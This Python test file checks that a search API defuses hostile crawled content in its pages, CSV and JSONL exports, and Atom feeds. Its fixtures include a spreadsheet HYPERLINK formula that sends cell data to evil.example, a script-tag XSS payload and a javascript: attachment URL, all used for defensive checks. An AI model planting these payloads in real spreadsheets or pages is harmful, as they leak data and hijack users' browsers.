"""What a crawled page can carry into our pages, exports and feeds: links, formulas, markup, control characters."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from xml.etree import ElementTree as ET

import pytest
from fastapi.testclient import TestClient

from indexer.document import Document
from indexer.sqlite_store import SqliteStore
from search_api.app import create_app
from search_api.settings import ApiSettings

ATOM = {"a": "http://www.w3.org/2005/Atom"}
TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
TEXT = '-10% 예산 삭감, "천안시" 발표 & <script>alert(1)</script> 후속 대책'


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    path = tmp_path_factory.mktemp("hostile") / "store.sqlite3"
    store = SqliteStore(path)
    store.upsert(
        [
            Document(
                id="hostile-1",
                url="https://press.example.kr/view/1",
                title=TITLE,
                text=TEXT,
                fetched_at=datetime(2024, 5, 2, tzinfo=UTC),
                published_at=datetime(2024, 5, 1, tzinfo=UTC),
                language="ko",
                languages=["ko"],
                texts_by_language={"ko": TEXT},
                content_hash="hostile-1",
                source="hostile",
                attachments=[
                    {"name": "report.zip", "url": "JAVASCRIPT:alert(document.domain)//report.zip"},
                    {"name": "plan.pdf", "url": "https://press.example.kr/files/plan.pdf"},
                ],
            )
        ]
    )
    store.close()
    with TestClient(create_app(ApiSettings(store=f"sqlite:///{path}", sources=[]))) as client:
        yield client


def test_document_page_links_only_web_attachments(client: TestClient) -> None:
    page = client.get("/documents/hostile-1")
    assert page.status_code == 200
    assert "javascript:" not in page.text.lower()
    assert "report.zip" in page.text  # named, not linked
    assert 'href="https://press.example.kr/files/plan.pdf"' in page.text


def test_csv_cells_cannot_start_a_formula_and_jsonl_keeps_the_text(client: TestClient) -> None:
    rows = list(csv.DictReader(io.StringIO(client.get("/v1/export", params={"format": "csv"}).text.lstrip("\ufeff"))))
    assert [(row["title"], row["text"]) for row in rows] == [("'" + TITLE, "'" + TEXT)]
    lines = client.get("/v1/export", params={"format": "jsonl"}).text.splitlines()
    assert [(json.loads(line)["title"], json.loads(line)["text"]) for line in lines] == [(TITLE, TEXT)]


def test_atom_summary_is_the_text_once_escaped_and_the_feed_stays_xml(client: TestClient) -> None:
    # A control character in the query would make the feed's title, and so the whole feed, not XML.
    feed = client.get("/v1/search.atom", params={"q": "\x01천안시"})
    assert feed.status_code == 200
    root = ET.fromstring(feed.content)
    summary = root.findtext("a:entry/a:summary", namespaces=ATOM)
    assert summary is not None and '"천안시" 발표 & <script>' in summary
